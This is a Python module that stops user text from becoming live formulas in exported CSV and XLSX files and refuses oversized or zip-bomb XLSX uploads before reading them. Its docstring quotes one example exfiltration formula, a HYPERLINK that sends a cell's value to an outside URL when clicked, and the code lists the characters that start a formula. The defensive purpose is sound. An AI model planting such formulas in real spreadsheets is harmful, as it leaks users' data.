"""Spreadsheet and CSV cells written from user data never become formulas.

A unit name, a narrative or a comment is typed by users; written as it is, a text starting
with ``=`` is a live formula in the XLSX (``=HYPERLINK("http://…?leak="&A1, …)`` sends the
sheet's figures away when clicked), and in a CSV Excel and LibreOffice evaluate anything
starting with ``= + - @`` or a tab/carriage return. Every writer of XLSX or CSV goes through
here:

- XLSX: :func:`neutralise_workbook` just before saving marks every formula cell as a plain
  string, so the text is kept exactly (a reporter's narrative round-trips through the offline
  form) but shown, never evaluated. Numbers, dates and booleans keep their types.
- CSV: :func:`csv_row` prefixes such texts with ``'`` (the convention both spreadsheet programs
  hide); numbers (values of number types, or texts that are just a number such as ``-3,5``)
  are left as they are, so they stay numbers.
"""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Iterable
from dataclasses import dataclass
from fractions import Fraction
from typing import IO, Any
from xml.etree import ElementTree

from chiso.engine.numbers import format_int, format_number

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,\s]*%?")


def csv_text(value: str) -> str:
    """``value`` safe for a CSV cell: a leading ``'`` when a spreadsheet would evaluate it."""
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """A CSV cell: texts through :func:`csv_text`, every other value unchanged."""
    return csv_text(value) if isinstance(value, str) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One CSV record with every text cell neutralised (for ``csv.writer.writerow``)."""
    return [csv_cell(v) for v in values]


def neutralise_workbook(workbook: Any) -> Any:
    """Turn every formula cell of an openpyxl ``workbook`` into a plain text cell; returns it.

    Call it right before ``workbook.save``: the writers of this project write data, never
    formulas, so any cell openpyxl took for a formula (a text starting with ``=``) came from a
    user. The text itself is kept unchanged.
    """
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return workbook


# --- reading: bounded work before any XLSX is opened -----------------------------------------

MB = 1024 * 1024
_SHEET_NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_COLUMN = re.compile(r"[A-Z]+")


@dataclass(frozen=True)
class XlsxLimits:
    """How much an uploaded XLSX may cost. An XLSX is a ZIP of XML: 1 MB on disk can be
    gigabytes once unpacked, and one cell in column XFD makes every row 16.384 cells wide."""

    max_uncompressed: int = 100 * MB  # all members together, once unzipped
    max_ratio: int = 200  # unzipped / zipped, for any member over 1 MB
    max_rows: int = 1_048_576
    max_columns: int = 200


FORM_LIMITS = XlsxLimits(max_uncompressed=50 * MB, max_rows=20_000, max_columns=64)


class SpreadsheetRefused(ValueError):
    """An XLSX refused before it is read: ``str()`` names the file, ``detail`` says why."""

    def __init__(self, name: str, detail: str):
        self.name, self.detail = name, detail
        super().__init__(f"{name}: {detail}")


def _mb(size: int) -> str:
    return format_number(Fraction(size, MB), 1)


def check_xlsx(data: bytes, name: str, limits: XlsxLimits = XlsxLimits()) -> None:
    """Refuse ``data`` (an XLSX named ``name``) if unpacking or reading it would cost more than
    ``limits`` allow: the ZIP directory gives the unpacked sizes, and the worksheets are then
    streamed (never loaded) to count rows and find the rightmost column. Raises
    :class:`SpreadsheetRefused`; a file that is not a ZIP is left to the reader to report."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(data))
    except (zipfile.BadZipFile, OSError, ValueError):
        return
    with archive:
        members = archive.infolist()
        total = sum(m.file_size for m in members)
        if total > limits.max_uncompressed:
            raise SpreadsheetRefused(
                name, f"tệp Excel giải nén ra {_mb(total)} MB, vượt giới hạn "
                f"{_mb(limits.max_uncompressed)} MB; hãy chia nhỏ tệp hoặc dùng CSV")
        for member in members:
            if member.file_size > MB and member.file_size > limits.max_ratio * max(member.compress_size, 1):
                raise SpreadsheetRefused(
                    name, f"tệp Excel nén bất thường ({member.filename} nén "
                    f"{format_int(member.file_size // max(member.compress_size, 1))} lần), "
                    "không đọc tệp này")
        for member in members:
            if member.filename.startswith("xl/worksheets/") and member.filename.endswith(".xml"):
                with archive.open(member) as stream:
                    _check_sheet(stream, name, limits)


def _check_sheet(stream: IO[bytes], name: str, limits: XlsxLimits) -> None:
    rows = 0
    sheet_data = None
    for event, element in ElementTree.iterparse(stream, events=("start", "end")):
        tag = element.tag
        if event == "start":
            if tag == f"{_SHEET_NS}sheetData":
                sheet_data = element
            continue
        if tag == f"{_SHEET_NS}c":
            ref = element.get("r")
            match = _COLUMN.match(ref or "")
            if match and _column_index(match.group(0)) > limits.max_columns:
                raise SpreadsheetRefused(
                    name, f"có ô ở cột {match.group(0)} (ô {ref}); chỉ nhận tối đa "
                    f"{format_int(limits.max_columns)} cột — hãy xoá các cột thừa bên phải")
        elif tag == f"{_SHEET_NS}row":
            rows += 1
            if rows > limits.max_rows:
                raise SpreadsheetRefused(
                    name, f"trang tính có hơn {format_int(limits.max_rows)} dòng, vượt giới hạn; "
                    "hãy chia nhỏ tệp")
            if sheet_data is not None:
                sheet_data.clear()  # keep memory flat: only the current row is ever held


def _column_index(letters: str) -> int:
    index = 0
    for ch in letters:
        index = index * 26 + (ord(ch) - 64)
    return index
